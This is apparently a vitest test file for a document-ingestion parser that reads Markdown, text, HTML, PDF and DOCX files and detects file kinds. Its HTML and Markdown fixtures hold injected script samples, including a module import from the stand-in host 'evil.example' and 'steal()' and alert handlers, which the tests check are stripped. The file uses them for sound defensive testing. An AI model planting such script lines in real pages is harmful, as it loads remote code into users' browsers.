import { Document, HeadingLevel, Packer, Paragraph, Table, TableCell, TableRow, TextRun } from 'docx';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { type Block, DocumentRejectedError, kindOf, type ParsedDocument, parseDocument } from '../../shared/knowledge/ingest/index.js';

/*
 * The knowledge reader on real files: Markdown, text and HTML as written by hand, PDFs written by
 * pdf-lib and DOCX files written by the `docx` package, each read through the library the service
 * uses for its kind.
 */

const utf8 = (text: string) => new TextEncoder().encode(text);

/** A PDF of pages of lines (12 pt, 14 pt apart; an empty line leaves a gap), with a title in its metadata. */
async function pdfOf(pages: string[][], title?: string): Promise<Uint8Array> {
  const pdf = await PDFDocument.create({ updateMetadata: false });
  if (title) pdf.setTitle(title);
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (const lines of pages) {
    const page = pdf.addPage([612, 792]);
    lines.forEach((line, index) => {
      page.drawText(line, { x: 72, y: 720 - index * 14, size: 12, font });
    });
  }
  return pdf.save();
}

/** What a reading rejects with. */
async function rejectionOf(reading: Promise<unknown>): Promise<DocumentRejectedError> {
  const error = await reading.then(
    () => undefined,
    (caught: unknown) => caught,
  );
  if (!(error instanceof DocumentRejectedError)) throw new Error(`expected a DocumentRejectedError, got ${String(error)}`);
  return error;
}

const paragraph = (text: string, page?: number): Block =>
  page === undefined ? { kind: 'paragraph', text } : { kind: 'paragraph', text, page };
const heading = (level: number, text: string): Block => ({ kind: 'heading', level, text });

describe('parseDocument: Markdown', () => {
  const markdown = [
    'Travel guide',
    '============',
    '',
    'Book **trains** through [the portal](https://travel.example/book) &amp; keep `receipts`.',
    'A second line of the same paragraph.',
    '',
    '## Expenses',
    '',
    '- Claim within 30 days',
    '- Attach receipts',
    '',
    '| Item | Limit |',
    '| --- | --- |',
    '| Hotel | 150 |',
    '',
    '```sh',
    'claim --month 11',
    '  --dry-run',
    '```',
    '',
    'Per diem',
    '--------',
    '',
    '![a chart](chart.png) Meals are covered.',
    '',
    '<script>alert(1)</script>',
  ].join('\n');

  it('keeps ATX and setext headings, reads lists, tables and code as paragraphs, and takes the first h1 as title', async () => {
    const doc = await parseDocument(utf8(markdown), 'markdown');
    expect(doc).toEqual({
      title: 'Travel guide',
      pages: 1,
      blocks: [
        heading(1, 'Travel guide'),
        // A line break inside a Markdown paragraph is a space, as it renders.
        paragraph('Book trains through the portal & keep receipts. A second line of the same paragraph.'),
        heading(2, 'Expenses'),
        paragraph('Claim within 30 days\nAttach receipts'),
        paragraph('Item | Limit\nHotel | 150'),
        paragraph('claim --month 11\n  --dry-run'),
        heading(2, 'Per diem'),
        paragraph('Meals are covered.'),
      ],
    } satisfies ParsedDocument);
    expect(JSON.stringify(doc)).not.toMatch(/alert|travel\.example|chart\.png/);
  });

  it('has no title without a level-1 heading', async () => {
    const doc = await parseDocument(utf8('## Only a section\n\ntext'), 'markdown');
    expect(doc.title).toBeUndefined();
    expect(doc.blocks).toEqual([heading(2, 'Only a section'), paragraph('text')]);
  });
});

describe('parseDocument: plain text', () => {
  it('cuts paragraphs at blank lines and takes a short first line as title', async () => {
    const text = 'Office hours\r\n\r\nThe office opens at 9.\n   It closes at 5.  \n\n \t \nWeekends are closed.\n';
    expect(await parseDocument(utf8(text), 'text')).toEqual({
      title: 'Office hours',
      pages: 1,
      blocks: [paragraph('Office hours'), paragraph('The office opens at 9.\nIt closes at 5.'), paragraph('Weekends are closed.')],
    });
  });

  it('takes no title from a long first line', async () => {
    const doc = await parseDocument(utf8(`${'word '.repeat(40)}\n\nnext`), 'text');
    expect(doc.title).toBeUndefined();
    expect(doc.blocks).toHaveLength(2);
  });

  it('refuses more text than maxCharacters', async () => {
    const error = await rejectionOf(parseDocument(utf8('a'.repeat(101)), 'text', { maxCharacters: 100 }));
    expect(error.reason).toBe('too_much_text');
    expect(error.message).toBe('the document has more than 100 characters of text; at most 100 are read');
  });
});

describe('parseDocument: HTML', () => {
  const html = `<!doctype html>
<html><head><title>Leave &amp; holidays</title>
<style>body { color: red } .secret::after { content: "styled" }</style>
<script>alert(1)</script>
<script type="module">import('https://evil.example/x.js')</script>
</head>
<body onload="steal()">
<nav><a href="/" onclick="track()">Home</a></nav>
<h1>Leave policy</h1>
<p>Staff get 25&nbsp;days &mdash; &lt;more&gt; with &#x41;pproval.<br>Ask <b>HR</b>.</p>
<template><p>template text</p></template>
<noscript><p>noscript text</p></noscript>
<svg><text>svg text</text></svg>
<h3 onclick="x()">Carry-over</h3>
<ul><li>Up to 5 days</li><li>Used by <em>March</em></li></ul>
<table><tr><th>Years</th><th>Days</th></tr><tr><td>0–5</td><td>25</td></tr></table>
<pre>  indented
    code</pre>
<div>Unclosed <span>inline
</body></html>`;

  it('keeps text and headings, never scripts, styles, templates or handlers, with entities decoded', async () => {
    const doc = await parseDocument(utf8(html), 'html');
    expect(doc).toEqual({
      title: 'Leave & holidays',
      pages: 1,
      blocks: [
        paragraph('Home'),
        heading(1, 'Leave policy'),
        paragraph('Staff get 25 days — <more> with Approval.\nAsk HR.'),
        heading(3, 'Carry-over'),
        paragraph('Up to 5 days\nUsed by March'),
        paragraph('Years | Days\n0–5 | 25'),
        paragraph('  indented\n    code'),
        paragraph('Unclosed inline'),
      ],
    });
    const output = JSON.stringify(doc);
    for (const hidden of ['alert', 'evil', 'color', 'styled', 'steal', 'track', 'template text', 'noscript text', 'svg text', 'x()']) {
      expect(output).not.toContain(hidden);
    }
  });

  it('takes the first h1 as title when there is no <title>', async () => {
    const doc = await parseDocument(utf8('<h2>Intro</h2><h1>Main</h1><p>x</p>'), 'html');
    expect(doc.title).toBe('Main');
  });

  it('refuses a page whose text passes maxCharacters, however much markup it has', async () => {
    const page = `<div>${'<p>twelve chars</p>'.repeat(10_000)}</div>`;
    expect((await parseDocument(utf8(page), 'html', { maxCharacters: 120_000 })).blocks).toHaveLength(10_000);
    const error = await rejectionOf(parseDocument(utf8(page), 'html', { maxCharacters: 100_000 }));
    expect(error.reason).toBe('too_much_text');
  });
});

describe('parseDocument: PDF', () => {
  it('reads the text of each page with its page number, joins lines into paragraphs and takes the title from metadata', async () => {
    const bytes = await pdfOf(
      [
        ['Quarterly report', '', 'Revenue grew in every region, led by', 'the northern offices.'],
        ['Costs fell by a tenth after the', 'infor-', 'mation systems were merged.'],
        ['Outlook', '', 'Hiring resumes in spring.'],
      ],
      'Q3 report',
    );
    const doc = await parseDocument(bytes, 'pdf');
    expect(doc).toEqual({
      title: 'Q3 report',
      pages: 3,
      blocks: [
        paragraph('Quarterly report', 1),
        paragraph('Revenue grew in every region, led by the northern offices.', 1),
        paragraph('Costs fell by a tenth after the information systems were merged.', 2),
        paragraph('Outlook', 3),
        paragraph('Hiring resumes in spring.', 3),
      ],
    });
  });

  it('has no title when its metadata has none, and counts a page without text', async () => {
    const doc = await parseDocument(await pdfOf([['Only page'], []]), 'pdf');
    expect(doc).toEqual({ title: undefined, pages: 2, blocks: [paragraph('Only page', 1)] });
  });

  it('refuses more pages than maxPages before reading them, and more text than maxCharacters', async () => {
    const bytes = await pdfOf([['one'], ['two'], ['three']]);
    const pages = await rejectionOf(parseDocument(bytes, 'pdf', { maxPages: 2 }));
    expect([pages.reason, pages.message]).toEqual(['too_many_pages', 'the PDF has 3 pages; at most 2 are read']);
    const text = await rejectionOf(parseDocument(bytes, 'pdf', { maxCharacters: 5 }));
    expect(text.reason).toBe('too_much_text');
  });

  it('refuses bytes that are not a PDF, and a PDF that is broken', async () => {
    const notPdf = await rejectionOf(parseDocument(utf8('hello'), 'pdf'));
    expect([notPdf.reason, notPdf.message]).toEqual(['unreadable', 'not a PDF']);
    const broken = await rejectionOf(parseDocument(utf8('%PDF-1.7\n1 0 obj << /Type /Catalog'), 'pdf'));
    expect([broken.reason, broken.message]).toEqual(['unreadable', 'not a readable PDF']);
  });

  it('is refused when reading takes longer than timeoutMs', async () => {
    const error = await rejectionOf(parseDocument(await pdfOf([['slow']]), 'pdf', { timeoutMs: 5 }));
    expect([error.reason, error.message]).toEqual(['too_slow', 'the document took longer than 5 ms to read']);
  });
});

describe('parseDocument: DOCX', () => {
  it('keeps headings, paragraphs, lists and tables (through HTML) and takes the first heading as title', async () => {
    const docx = new Document({
      sections: [
        {
          children: [
            new Paragraph({ text: 'Security handbook', heading: HeadingLevel.HEADING_1 }),
            new Paragraph({
              children: [new TextRun('Lock screens when '), new TextRun({ text: 'away', bold: true }), new TextRun(' & log out.')],
            }),
            new Paragraph({ text: 'Passwords', heading: HeadingLevel.HEADING_2 }),
            new Paragraph({ text: 'Use a manager.', bullet: { level: 0 } }),
            new Paragraph({ text: 'Never reuse one.', bullet: { level: 0 } }),
            new Table({
              rows: [
                new TableRow({
                  children: [
                    new TableCell({ children: [new Paragraph('System')] }),
                    new TableCell({ children: [new Paragraph('Rotation')] }),
                  ],
                }),
                new TableRow({
                  children: [new TableCell({ children: [new Paragraph('VPN')] }), new TableCell({ children: [new Paragraph('90 days')] })],
                }),
              ],
            }),
            new Paragraph({ text: 'Incidents', heading: HeadingLevel.HEADING_3 }),
            new Paragraph('Report within one hour.'),
          ],
        },
      ],
    });
    const doc = await parseDocument(await Packer.toBuffer(docx), 'docx');
    expect(doc).toEqual({
      title: 'Security handbook',
      pages: 1,
      blocks: [
        heading(1, 'Security handbook'),
        paragraph('Lock screens when away & log out.'),
        heading(2, 'Passwords'),
        paragraph('Use a manager.\nNever reuse one.'),
        paragraph('System | Rotation\nVPN | 90 days'),
        heading(3, 'Incidents'),
        paragraph('Report within one hour.'),
      ],
    });
  });

  it("takes Word's Title style as the title, a level-1 heading", async () => {
    const docx = new Document({
      sections: [
        {
          children: [
            new Paragraph({ text: 'Onboarding', heading: HeadingLevel.TITLE }),
            new Paragraph({ text: 'First week', heading: HeadingLevel.HEADING_2 }),
            new Paragraph('Meet the team.'),
          ],
        },
      ],
    });
    expect(await parseDocument(await Packer.toBuffer(docx), 'docx')).toEqual({
      title: 'Onboarding',
      pages: 1,
      blocks: [heading(1, 'Onboarding'), heading(2, 'First week'), paragraph('Meet the team.')],
    });
  });

  it('refuses bytes that are not a DOCX', async () => {
    const error = await rejectionOf(parseDocument(utf8('PK not really'), 'docx'));
    expect([error.reason, error.message]).toEqual(['unreadable', 'not a DOCX']);
  });
});

describe('kindOf', () => {
  it('trusts magic bytes over a name or type', async () => {
    const pdf = await pdfOf([['x']]);
    expect(kindOf(pdf)).toBe('pdf');
    expect(kindOf(pdf, 'notes.txt', 'text/plain')).toBe('pdf');
    const docx = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('x')] }] }));
    expect(kindOf(docx)).toBe('docx');
    expect(kindOf(docx, 'upload.bin', 'application/octet-stream')).toBe('docx');
  });

  it('then goes by content type (parameters aside), then by extension', () => {
    const text = utf8('# Notes\n\nplain words');
    expect(kindOf(text, 'notes.txt', 'text/markdown; charset=utf-8')).toBe('markdown');
    expect(kindOf(text, 'notes.txt', 'TEXT/HTML')).toBe('html');
    expect(kindOf(text, undefined, 'text/plain')).toBe('text');
    expect(kindOf(text, 'README.MD')).toBe('markdown');
    expect(kindOf(text, 'guide.markdown')).toBe('markdown');
    expect(kindOf(text, 'page.htm')).toBe('html');
    expect(kindOf(text, 'page.html', 'application/octet-stream')).toBe('html');
    expect(kindOf(text, 'notes.txt')).toBe('text');
  });

  it('refuses what nothing names, and a PDF or DOCX by name without its magic bytes', () => {
    const text = utf8('plain words');
    expect(kindOf(text)).toBeUndefined();
    expect(kindOf(text, 'data.csv')).toBeUndefined();
    expect(kindOf(text, 'report.pdf', 'application/pdf')).toBeUndefined();
    expect(kindOf(text, 'report.docx')).toBeUndefined();
  });

  it('refuses random binary, whatever it is called', () => {
    // A fixed pseudo-random sequence (a linear congruential generator), so the test means the same every run.
    let seed = 49;
    const binary = Uint8Array.from({ length: 4_096 }, () => {
      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
      return seed >> 16;
    });
    expect(kindOf(binary, 'notes.txt', 'text/plain')).toBeUndefined();
    expect(kindOf(binary, 'notes.md')).toBeUndefined();
    expect(kindOf(utf8('text with a \u0000 NUL'), 'notes.txt')).toBeUndefined();
  });
});
